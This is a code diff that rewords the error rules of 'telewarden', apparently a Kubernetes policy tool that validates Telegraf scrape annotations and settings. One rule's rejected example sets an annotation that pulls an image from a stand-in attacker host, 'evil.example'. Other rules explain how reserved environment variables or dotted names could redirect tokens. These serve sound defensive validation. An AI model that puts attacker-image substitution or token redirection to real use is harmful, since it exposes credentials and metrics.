-        why: "Go's timers overflow at 292 years, and then Telegraf scrapes all the time. An endpoint that is scraped less than \
-              once a day is most often a mistake. The settings' `endpoints.maxInterval` decides.",
+        why: "Go's timers overflow at 292 years; Telegraf would then scrape without a pause. An endpoint that is scraped less \
+              than once a day is usually a mistake. The setting `endpoints.maxInterval` is the limit.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: 2540300h\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: 12h\n",
     }
@@ -587,8 +587,8 @@ rules! {
             Some(min) => format!("write `{min}` or more, and `{max}` or less"),
             None => format!("write `{max}` or less"),
         }),
-        why: "A reload of Telegraf waits for scrapes that are under way: an endpoint that hangs keeps all others from being \
-              scraped for as long as its timeout is. The settings' `endpoints.minTimeout` and `endpoints.maxTimeout` decide.",
+        why: "A reload of Telegraf waits for running scrapes: until the timeout of an endpoint that hangs, no other \
+              endpoint is scraped. The settings `endpoints.minTimeout` and `endpoints.maxTimeout` are the limits.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      timeout: 2562047h\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      timeout: 10s\n",
     }
@@ -596,114 +596,114 @@ rules! {
         summary: "The timeout is longer than the interval.",
         message: "the timeout {timeout} is longer than the interval {interval}",
         help: help(format!("write a timeout of `{interval}` or less, or a longer interval")),
-        why: "A scrape that hangs would still run when the next one is due. The interval is the endpoint's own, that of the \
-              `interval` annotation, that of the settings' `inputs.defaults`, or the class's `agent.interval`, whichever comes \
-              first.",
+        why: "A scrape that hangs would still run when the next one is due. The interval is the first that is set of: the \
+              endpoint's `interval`, the `interval` annotation, `inputs.defaults` in the settings, and the class's \
+              `agent.interval`.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: 20s\n      timeout: 30s\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: 30s\n      timeout: 20s\n",
     }
     TW215 ContentLengthAboveCeiling { bytes: i64, max: i64 } Error {
-        summary: "The limit for an answer's size is above what the settings allow.",
-        message: "`content_length_limit` is {bytes} bytes, and may be {max}",
+        summary: "The limit for a response's size is larger than the settings allow.",
+        message: "`content_length_limit` is {bytes} bytes; the limit is {max}",
         help: help(format!("write `{max}` or less")),
-        why: "Telegraf reads an answer into memory, which it shares with all other endpoints. The settings' \
-              `endpoints.maxContentLength` decides.",
+        why: "Telegraf reads a whole response into memory that all its endpoints share. The setting \
+              `endpoints.maxContentLength` is the limit.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      content_length_limit: 1GB\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      content_length_limit: 10MB\n",
     }
     TW216 TooManyPatterns { what: String, count: usize, max: usize } Error {
-        summary: "There are more patterns than are matched in little time.",
-        message: "{what} holds {count} patterns, and may hold {max}",
-        help: help("use `*` where many names begin or end alike, or drop the metrics where they are made"),
-        why: "Each pattern of a filter is matched with every metric, field or tag of every scrape.",
+        summary: "Too many patterns.",
+        message: "{what} has {count} patterns; the limit is {max}",
+        help: help("combine patterns with `*`, or drop the metrics in the exporter"),
+        why: "Telegraf matches each pattern with every metric, field or tag of every scrape.",
         example: "",
         instead: "",
     }
 
     TW301 UnknownAnnotation { name: String, nearest: Option<String> } Warning {
-        summary: "An annotation under `telegraf.influxdata.com/` is not known.",
-        message: "`{name}` is not known, and does nothing",
+        summary: "Unknown annotation under `telegraf.influxdata.com/`.",
+        message: "unknown annotation `{name}` has no effect",
         help: did_you_mean(nearest.as_deref()),
-        why: "Probably it is a typing mistake.",
+        why: "It is probably a typing mistake.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/intervall: 30s\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/interval: 30s\n",
     }
     TW302 PodAnnotation { name: String, instead: &'static str } Error {
-        summary: "An annotation belongs on a pod of the archived telegraf-operator.",
-        message: "`{name}` describes a pod, and there is no pod here",
+        summary: "The annotation is for pods of the archived telegraf-operator.",
+        message: "`{name}` applies to pods only",
         help: help(instead),
-        why: "telegraf-operator put a sidecar into each annotated pod and scraped that pod's ports. Here the Application or \
-              the Namespace names whole URLs.",
+        why: "telegraf-operator put a sidecar into each annotated pod and scraped that pod's ports. telewarden reads \
+              complete URLs from the Application or Namespace.",
         example: "telegraf.influxdata.com/port: \"9121\"\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
     }
     TW303 UnknownClass { class: String, known: Vec<String> } Error {
-        summary: "The class is not one of the settings'.",
+        summary: "Unknown class.",
         message: "there is no class `{class}`",
         help: help(format!("known: {}", list(&known))),
-        why: "The class says where the metrics go.",
+        why: "The class defines where metrics are sent.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/class: gold\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/class: default\n",
     }
     TW304 ClassNotAllowed { class: String, source: String } Error {
         summary: "The source may not choose this class.",
         message: "`{source}` may not use class `{class}`",
-        help: help("choose another class, or ask the administrator to extend the class's `allow`"),
-        why: "A class can be kept for some sources: the settings' `classes.<name>.allow`.",
+        help: help("choose another class, or ask the administrator to extend its `allow`"),
+        why: "The setting `classes.<name>.allow` limits which sources may use a class.",
         example: "",
         instead: "",
     }
     TW305 ImageNotAllowed { image: String, allowed: Vec<String> } Error {
         summary: "The settings do not allow this image.",
         message: "the image `{image}` is not allowed",
-        help: help(format!("leave the annotation out; allowed: {}", list(&allowed))),
-        why: "The image runs with Telegraf's credentials.",
+        help: help(format!("remove the annotation; allowed: {}", list(&allowed))),
+        why: "The image has access to Telegraf's credentials.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/image: evil.example/telegraf:latest\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
     }
     TW306 EnvNotAllowed { name: String } Error {
         summary: "The settings do not allow annotations to set environment variables.",
         message: "`{name}` is not allowed",
-        help: help("leave the annotation out, or ask the administrator for `allow.env`"),
-        why: "Whoever may annotate an Application need not be allowed to read its namespace's secrets.",
+        help: help("remove the annotation, or ask the administrator for `allow.env`"),
+        why: "An author of annotations may not be entitled to read the Secrets of the namespace.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/secret-env: database\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
     }
     TW307 EnvName { name: String } Error {
-        summary: "An environment variable's name cannot be used.",
-        message: "`{name}` cannot be an environment variable's name",
-        help: help("use A-Z, a-z, 0-9 and `_`, not a digit first"),
-        why: "Telegraf would not find it.",
+        summary: "Invalid name of an environment variable.",
+        message: "invalid name `{name}` of an environment variable",
+        help: help("use A-Z, a-z, 0-9 and `_`; do not start with a digit"),
+        why: "Telegraf could not use the variable.",
         example: "",
         instead: "",
     }
     TW308 EnvReserved { name: String } Error {
-        summary: "An environment variable is set that the settings use, or that changes where connections go.",
-        message: "the environment variable `{name}` is not for annotations to set",
+        summary: "An annotation sets a reserved environment variable.",
+        message: "the environment variable `{name}` is reserved",
         help: help("choose another name"),
-        why: "It would replace the administrator's value, or send Telegraf's traffic and its token elsewhere.",
+        why: "The settings use the variable, or it controls where Telegraf connects: it could redirect traffic and tokens.",
         example: "",
         instead: "",
     }
     TW309 NotAQuantity { name: String, text: String } Error {
-        summary: "What should be a quantity is not one.",
-        message: "`{name}`: `{text}` is not a quantity",
-        help: help("write it as `100m` (processors) or `64Mi` (memory)"),
-        why: "Quantities are Kubernetes' own \
+        summary: "Invalid quantity.",
+        message: "`{name}`: invalid quantity `{text}`",
+        help: help("write it as `100m` (CPU) or `64Mi` (memory)"),
+        why: "Resources are written as Kubernetes quantities \
               (<https://kubernetes.io/docs/reference/kubernetes-api/common-definitions/quantity/>).",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/limits-memory: lots\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/limits-memory: 512Mi\n",
     }
     TW310 AboveCeiling { name: String, text: String, ceiling: String } Error {
-        summary: "A resource is above what the settings allow.",
+        summary: "A resource is larger than the settings allow.",
         message: "`{name}`: {text} is above {ceiling}",
         help: help(format!("write `{ceiling}` or less")),
-        why: "The settings' `allow.maxResources` keeps one source from using up what is there for all.",
+        why: "The setting `allow.maxResources` keeps one source from using the resources of all others.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/limits-memory: 64Gi\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/limits-memory: 1Gi\n",
     }
     TW311 RequestAboveLimit { resource: &'static str, request: String, limit: String } Error {
-        summary: "More of a resource is requested than the limit allows.",
+        summary: "A resource request is larger than its limit.",
         message: "{resource}: the request {request} is above the limit {limit}",
         help: help("raise the limit, or lower the request"),
         why: "Kubernetes refuses such a pod.",
@@ -711,77 +711,77 @@ rules! {
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/requests-memory: 64Mi\ntelegraf.influxdata.com/limits-memory: 512Mi\n",
     }
     TW312 AnnotationValue { name: String, text: String, expected: &'static str } Error {
-        summary: "An annotation's value is none that it can have.",
+        summary: "Invalid annotation value.",
         message: "`{name}` cannot be `{text}`",
         help: help(format!("write {expected}")),
-        why: "It would be passed on to Telegraf or Kubernetes, which would refuse it.",
+        why: "Telegraf or Kubernetes would refuse the value.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/metric-version: two\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/metric-version: \"2\"\n",
     }
     TW313 NotShared { name: String } Error {
-        summary: "An annotation asks for a Telegraf of its own where all sources share one.",
-        message: "`{name}` has no meaning where all sources share one Telegraf",
-        help: help("leave it out; the settings choose `topology: standalone`"),
-        why: "The one Telegraf cannot have one source's class, image, resources or environment.",
+        summary: "An annotation needs a separate Telegraf, but all sources share one.",
+        message: "`{name}` has no effect: all sources share one Telegraf",
+        help: help("remove it; the settings choose `topology: standalone`"),
+        why: "The class, image, resources and environment of a shared Telegraf cannot depend on one source.",
         example: "",
         instead: "",
     }
     TW314 NothingToScrape { } Warning {
-        summary: "There are annotations for a Telegraf, and no endpoint.",
-        message: "no endpoint is annotated, so this does nothing",
+        summary: "Annotations have no effect without endpoints.",
+        message: "no effect: there are no endpoints",
         help: help("add the endpoints, or remove the annotation"),
-        why: "Probably the annotation with the endpoints was forgotten, or its name is mistyped.",
+        why: "The annotation with the endpoints is probably missing, or its name is mistyped.",
         example: "telegraf.influxdata.com/interval: 30s\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/interval: 30s\n",
     }
     TW315 WrittenAnnotation { name: String } Error {
-        summary: "An annotation is set by hand that the policy writes.",
-        message: "`{name}` is written by the policy, and this value is not its own",
-        help: help("leave the annotation out"),
-        why: "Whoever reads it takes it for what was rendered and admitted. A value that the object had before may stay, and \
-              so may the one that the policy would write.",
+        summary: "An annotation that the policy writes is set by hand.",
+        message: "only the policy may set `{name}`",
+        help: help("remove the annotation"),
+        why: "Readers of the annotation trust it to be what was rendered and admitted. A value that the object already had is \
+              accepted, and so is the value that the policy would write.",
         example: "",
         instead: "",
     }
     TW316 EnvTwice { name: String } Error {
         summary: "An environment variable is set by two annotations.",
-        message: "the environment variable `{name}` is set by another annotation already",
+        message: "another annotation already sets the environment variable `{name}`",
         help: help("keep one of the two"),
-        why: "A container's environment holds each name once; which of the two counts would be left to chance.",
+        why: "A container has one value for each variable, and it would be undefined which of the two is used.",
         example: "",
         instead: "",
     }
 
     TW401 NoNamespace { } Error {
-        summary: "The Application does not say which namespace it is deployed to.",
+        summary: "The Application has no destination namespace.",
         message: "`spec.destination.namespace` is empty",
-        help: help("set it: Telegraf runs in that namespace, and only its services are scraped"),
-        why: "Without it nobody knows where Telegraf should run.",
+        help: help("set it: Telegraf runs in that namespace"),
+        why: "Telegraf runs in that namespace, and by default only services of that namespace are scraped.",
         example: "",
         instead: "",
     }
     TW402 NotANamespace { name: String } Error {
-        summary: "A namespace's name is not one.",
-        message: "`{name}` cannot be a namespace's name",
-        help: help("use 1 to 63 of the characters a-z, 0-9 and `-`, a letter or digit at both ends"),
-        why: "It becomes a part of the hosts that may be scraped, and so must be a single DNS label \
+        summary: "Invalid namespace name.",
+        message: "invalid namespace name `{name}`",
+        help: help("use 1 to 63 of the characters a-z, 0-9 and `-`; start and end with a letter or digit"),
+        why: "The name becomes part of the allowed hosts, so it must be a single DNS label \
               (<https://kubernetes.io/docs/concepts/overview/working-with-objects/names/#dns-label-names>).",
         example: "",
         instead: "",
     }
     TW403 Unreadable { what: &'static str, error: String } Error {
-        summary: "The object cannot be read.",
+        summary: "The object cannot be decoded.",
         message: "{what} cannot be read: {error}",
         help: None,
-        why: "It has not the shape that Kubernetes or Argo CD gives it.",
+        why: "The object does not have the structure that Kubernetes or Argo CD defines.",
         example: "",
         instead: "",
     }
     TW404 ForeignNamespace { namespace: String, allowed: Vec<String> } Warning {
-        summary: "The Application is in a namespace that the settings leave out.",
+        summary: "The settings exclude the Application's namespace.",
         message: "Applications in namespace `{namespace}` are not served",
-        help: help(format!("served: {}; `sources.applicationNamespaces` decides", list(&allowed))),
-        why: "Whoever may create Applications in any namespace need not be allowed to deploy a Telegraf into any other.",
+        help: help(format!("served: {} (`sources.applicationNamespaces`)", list(&allowed))),
+        why: "A user who can create Applications in one namespace may not be entitled to deploy a Telegraf into another.",
         example: "",
         instead: "",
     }
@@ -789,68 +789,68 @@ rules! {
         summary: "The Application is deployed to another cluster.",
         message: "the destination is another cluster, `{cluster}`",
         help: help("run an operator there; this one serves its own cluster only"),
-        why: "This cluster is `https://kubernetes.default.svc`, or `in-cluster` by name.",
+        why: "An operator deploys only to its own cluster: the server `https://kubernetes.default.svc`, or the name `in-cluster`.",
         example: "",
         instead: "",
     }
     TW406 ConfigurationTooLarge { size: usize, limit: usize } Error {
         summary: "The rendered configuration does not fit into a ConfigMap.",
-        message: "the configuration is {size} bytes long, and a ConfigMap holds {limit}",
-        help: help("leave out endpoints, or choose another topology than `standalone`"),
+        message: "the configuration is {size} bytes long; a ConfigMap holds {limit}",
+        help: help("remove endpoints, or use another topology than `standalone`"),
         why: "Kubernetes limits a ConfigMap to 1 MiB \
               (<https://kubernetes.io/docs/concepts/configuration/configmap/#motivation>).",
         example: "",
         instead: "",
     }
     TW407 Undecided { } Warning {
-        summary: "A template's placeholder keeps an annotation from being checked.",
-        message: "this depends on a placeholder of the ApplicationSet, and is checked when Applications are made",
+        summary: "An annotation with placeholders cannot be checked yet.",
+        message: "this contains a placeholder, and is checked when the ApplicationSet creates Applications",
         help: None,
-        why: "What `{{ }}` stands for is known only to the ApplicationSet controller.",
+        why: "Only the ApplicationSet controller knows the value of `{{ }}`.",
         example: "",
         instead: "",
     }
     TW408 ProjectRefuses { project: String, why: String } Error {
-        summary: "The Application's AppProject does not permit what would be deployed.",
+        summary: "The Application's AppProject does not permit the deployment.",
         message: "project `{project}` {why}",
-        help: help("change that part of the project, or the Application's project"),
-        why: "Argo CD would not deploy there for this Application, and neither may we \
+        help: help("change the project, or choose another"),
+        why: "Argo CD would not deploy there for this Application, so telewarden does not either \
               (<https://argo-cd.readthedocs.io/en/stable/user-guide/projects/>).",
         example: "",
         instead: "",
     }
     TW409 Protocol { found: u32, known: u32 } Error {
-        summary: "The host speaks another version of the contract than the module.",
-        message: "the request is of protocol {found}, and this module speaks {known}",
+        summary: "Host and module have different protocol versions.",
+        message: "the request has protocol version {found}; this module supports {known}",
         help: help("use a host and a module of the same release"),
-        why: "A module of another version could read the request as something else.",
+        why: "Another version of the module could misinterpret the request.",
         example: "",
         instead: "",
     }
 
     TW410 DuplicateSource { source: String } Warning {
         summary: "The same object is given twice.",
-        message: "`{source}` is given twice, and only the first counts",
-        help: help("leave one of the two out"),
-        why: "Both would render to objects of the same names. In a folder of manifests it is often a copy.",
+        message: "`{source}` is given twice; only the first is used",
+        help: help("remove one of the two"),
+        why: "Both would render objects with the same names. In a folder of manifests, the second is often a copy.",
         example: "",
         instead: "",
     }
 
     TW411 OutputAddress { source: String, address: String } Error {
-        summary: "A name would change the address of an output.",
-        message: "with the names of `{source}` in it, an output's address would be `{address}`",
-        help: help("rename it, or ask the administrator for outputs that do not depend on this name"),
-        why: "The settings put the name into an output's URL. A dot in the name would make another host of it, and metrics \
-              and token would be sent there.",
+        summary: "A name changes the address of an output.",
+        message: "the names of `{source}` would change an output's address to `{address}`",
+        help: help("rename it, or ask the administrator for outputs without this name"),
+        why: "The settings insert the name into an output's URL. A dot in the name would change the host, and metrics and \
+              token would be sent to that host.",
         example: "",
         instead: "",
     }
     TW412 InClusterDisabled { } Error {
-        summary: "Argo CD does not deploy to the cluster that it runs in.",
+        summary: "Argo CD does not deploy to its own cluster.",
         message: "Argo CD deploys nothing to this cluster: `cluster.inClusterEnabled` is false in `argocd-cm`",
         help: help("choose another destination, or set `cluster.inClusterEnabled` to true"),
-        why: "Argo CD would not deploy there for this Application, and neither may we \
+        why: "Argo CD would not deploy there for this Application, so telewarden does not either \
               (<https://argo-cd.readthedocs.io/en/stable/operator-manual/argocd-cm-yaml/>).",
         example: "",
         instead: "",
@@ -860,7 +860,7 @@ rules! {
         summary: "Settings do not match the schema.",
         message: "{error}",
         help: did_you_mean(nearest).or_else(|| help("`telewarden schema settings` prints what is allowed")),
-        why: "An unknown key is a mistake more often than not, so it is refused, not ignored.",
+        why: "An unknown key is usually a mistake, so it is refused and not ignored.",
         example: "topologie: standalone\n",
         instead: "topology: standalone\n",
     }
@@ -868,74 +868,73 @@ rules! {
         summary: "A class has no output.",
         message: "class `{class}` has no output",
         help: help("add one, such as `influxdb_v2: [{{urls: [\"http://influxdb.influxdb.svc:8086\"], …}}]`".replace("{{", "{").replace("}}", "}")),
-        why: "Telegraf does not start without an output, and the metrics would go nowhere.",
+        why: "Telegraf does not start without an output.",
         example: "classes: {default: {outputs: {}}}\n",
         instead: "classes: {default: {outputs: {file: [{files: [stdout]}]}}}\n",
     }
     TW503 NoSuchClass { class: String, known: Vec<String> } Error {
-        summary: "The default class is not one of the classes.",
+        summary: "The default class does not exist.",
         message: "there is no class `{class}`",
         help: help(format!("known: {}", list(&known))),
-        why: "Every source that names no class uses it.",
+        why: "Every source without a `class` annotation uses it.",
         example: "defaultClass: gold\n",
         instead: "defaultClass: default\n",
     }
     TW504 Pattern { pattern: String, why: &'static str } Error {
         summary: "A pattern can never match.",
         message: "`{pattern}` {why}",
-        help: help("a host pattern is made of labels; `*` stands for one or more whole labels: `*.{namespace}.svc`".to_owned()),
-        why: "A pattern that matches nothing would refuse every endpoint, and one that is read otherwise than it was meant \
-              could allow any.",
+        help: help("`*` stands for one or more whole labels: `*.{namespace}.svc`".to_owned()),
+        why: "A pattern that matches nothing refuses every endpoint. A pattern that is misunderstood could allow any.",
         example: "endpoints: {hosts: [\"*argocd.svc\"]}\n",
         instead: "endpoints: {hosts: [\"*.argocd.svc\"]}\n",
     }
     TW505 Placeholder { name: String, known: &'static str } Error {
-        summary: "A placeholder is not known here.",
-        message: "`{{{name}}}` is not known here",
-        help: help(format!("known here: {known}; a literal brace is written `{{{{`")),
-        why: "It would be passed on as it is, and nothing would be called so.",
+        summary: "Unknown placeholder.",
+        message: "unknown placeholder `{{{name}}}`",
+        help: help(format!("known: {known}; write a literal brace as `{{{{`")),
+        why: "An unknown placeholder would be left in the text.",
         example: "inputs: {tags: {prometheus_app: \"{app}\"}}\n",
         instead: "inputs: {tags: {prometheus_app: \"{bucket}\"}}\n",
     }
     TW506 TelegrafValue { why: &'static str } Error {
-        summary: "A value cannot be written as Telegraf's configuration.",
+        summary: "Unsupported value for Telegraf's configuration.",
         message: "{why}",
-        help: help("use text, numbers, booleans, lists of one kind of these, and maps with bare keys (A-Z, a-z, 0-9, `_`, `-`)"),
-        why: "Telegraf's TOML parser is older than TOML 1.0: no null, no list that mixes kinds, bare keys only.",
+        help: help("use text, numbers, booleans, lists of one type, and maps with bare keys (A-Z, a-z, 0-9, `_`, `-`)"),
+        why: "Telegraf's TOML parser is older than TOML 1.0: no null, no list of mixed types, bare keys only.",
         example: "classes: {default: {globalTags: {cluster: null}}}\n",
         instead: "classes: {default: {globalTags: {cluster: data}}}\n",
     }
     TW507 AnnotationKey { key: String } Error {
-        summary: "The annotation's name cannot be one.",
-        message: "`{key}` cannot be an annotation's name",
-        help: help("write `prefix.example.com/name`, or a name alone; names have at most 63 characters"),
-        why: "Kubernetes would never show an object with it \
+        summary: "Invalid annotation name.",
+        message: "invalid annotation name `{key}`",
+        help: help("write `prefix.example.com/name` or `name`; names have at most 63 characters"),
+        why: "Kubernetes does not accept such annotations, so it would never be found \
               (<https://kubernetes.io/docs/concepts/overview/working-with-objects/annotations/#syntax-and-character-set>).",
         example: "annotation: \"telegraf endpoints\"\n",
         instead: "annotation: example.com/telegraf-endpoints\n",
     }
     TW508 OwnPlugin { plugin: String } Error {
-        summary: "The settings configure a plugin that is rendered for the probes.",
+        summary: "The settings configure a plugin that telewarden renders itself.",
         message: "`{plugin}` is rendered by telewarden itself",
-        help: help("leave it out"),
-        why: "The liveness probe asks `outputs.health` on a port of its own.",
+        help: help("remove it"),
+        why: "The liveness probe uses the rendered `outputs.health`.",
         example: "classes: {default: {outputs: {health: [{service_address: \"http://:1\"}]}}}\n",
         instead: "",
     }
     TW509 ExtraResource { why: String } Error {
         summary: "An extra resource cannot be rendered.",
         message: "{why}",
-        help: help("write `apiVersion`, `kind` and `metadata.name`, leave out `metadata.namespace`, and set no label or annotation of Argo CD's tracking"),
+        help: help("set `apiVersion`, `kind` and `metadata.name`, but not `metadata.namespace` or Argo CD's tracking labels or annotations"),
         why: "Extra resources are namespaced objects, one for each source, in the source's namespace.",
         example: "extraResources: [{kind: Secret}]\n",
         instead: "extraResources: [{apiVersion: v1, kind: Secret, metadata: {name: \"{application}-token\"}}]\n",
     }
     TW510 Routing { why: &'static str } Error {
-        summary: "In `standalone` the metrics cannot be told apart.",
+        summary: "In `standalone`, metrics cannot be routed by source.",
         message: "{why}",
-        help: help("leave `tagpass` out, or use `tagdrop`"),
-        why: "All sources share one Telegraf, and an output takes the metrics of one source by a tag. Telegraf lets a metric \
-              pass that matches any tag of `tagpass`, so a second one would let the metrics of other sources through \
+        help: help("remove `tagpass`, or use `tagdrop`"),
+        why: "All sources share one Telegraf, and an output selects the metrics of one source by a tag. A metric passes if it \
+              matches any tag of `tagpass`, so a second tag would let metrics of other sources pass \
               (<https://docs.influxdata.com/telegraf/v1/configuration/#metric-filtering>).",
         example: "topology: standalone\nclasses: {default: {outputs: {influxdb_v2: [{urls: [\"http://influxdb.influxdb.svc:8086\"], organization: o, bucket: \"{bucket}\", token: t, tagpass: {tier: [web]}}]}}}\n",
         instead: "topology: standalone\nclasses: {default: {outputs: {influxdb_v2: [{urls: [\"http://influxdb.influxdb.svc:8086\"], organization: o, bucket: \"{bucket}\", token: t, tagdrop: {tier: [web]}}]}}}\n",
@@ -943,13 +942,13 @@ rules! {
     TW511 DnsLabel { text: String, what: &'static str } Error {
         summary: "A name in the settings is not a DNS label.",
         message: "`{text}` cannot be {what}",
-        help: help("use 1 to 63 of the characters a-z, 0-9 and `-`, a letter or digit at both ends"),
-        why: "Kubernetes would refuse every object with it.",
+        help: help("use 1 to 63 of the characters a-z, 0-9 and `-`; start and end with a letter or digit"),
+        why: "Kubernetes would refuse every object with this name.",
         example: "instance: \"my operator\"\n",
         instead: "instance: my-operator\n",
     }
     TW512 Image { image: String, why: &'static str } Error {
-        summary: "The image cannot be used.",
+        summary: "Unsupported image.",
         message: "the image `{image}` {why}",
         help: help("write it with a tag or a digest, version 1.38 or later: `docker.io/library/telegraf:1.40-alpine`"),
         why: "The rendered configuration and command line need Telegraf 1.38 or later.",
@@ -957,28 +956,28 @@ rules! {
         instead: "pod: {image: \"docker.io/library/telegraf:1.40\"}\n",
     }
     TW513 OpenEgress { class: String } Warning {
-        summary: "The NetworkPolicy cannot say where an output's connections go.",
-        message: "the NetworkPolicy leaves all destinations open for class `{class}`: an output's address is not known",
-        help: help("write the output's URL out, without a variable"),
-        why: "A NetworkPolicy is rendered from the URLs; a variable has its value only in the pod.",
+        summary: "The NetworkPolicy cannot restrict an output's connections.",
+        message: "the NetworkPolicy allows all destinations for class `{class}`: an output's address is unknown",
+        help: help("write the output's URL without a variable"),
+        why: "The NetworkPolicy is rendered from the outputs' URLs, and the value of a variable is known only in the pod.",
         example: "networkPolicy: true\nclasses: {default: {outputs: {influxdb_v2: [{urls: [\"${INFLUX_URL}\"], token: t, organization: o, bucket: b}]}}}\n",
         instead: "networkPolicy: true\n",
     }
     TW514 ReservedName { name: String, what: &'static str } Error {
-        summary: "The settings set a label or an annotation that would give the objects to somebody else.",
+        summary: "The settings set a reserved label or annotation.",
         message: "`{name}` cannot be {what}",
-        help: help("leave it out"),
-        why: "Argo CD takes an object with its tracking label or annotation for the application's own, and prunes it \
+        help: help("remove it"),
+        why: "Argo CD treats an object with its tracking label or annotation as part of an application, and prunes it \
               (<https://argo-cd.readthedocs.io/en/stable/user-guide/resource_tracking/>); telewarden finds its own objects by \
               its labels.",
         example: "pod: {labels: {\"app.kubernetes.io/instance\": argocd}}\n",
         instead: "pod: {labels: {team: square}}\n",
     }
     TW515 MutationShared { } Error {
-        summary: "The rendered objects cannot be written into a source that has none of its own.",
+        summary: "`mutation: resources` is set with `topology: standalone`.",
         message: "`mutation: resources` cannot be used with `topology: standalone`",
-        help: help("write `mutation: digest` or `mutation: none`, or choose another topology"),
-        why: "In `standalone` all sources share one Telegraf, so no single source has objects that could be written into it.",
+        help: help("use `mutation: digest` or `mutation: none`, or another topology"),
+        why: "In `standalone` all sources share one Telegraf, so there are no objects to write into a single source.",
         example: "topology: standalone\nmutation: resources\n",
         instead: "topology: standalone\nmutation: digest\n",
     }
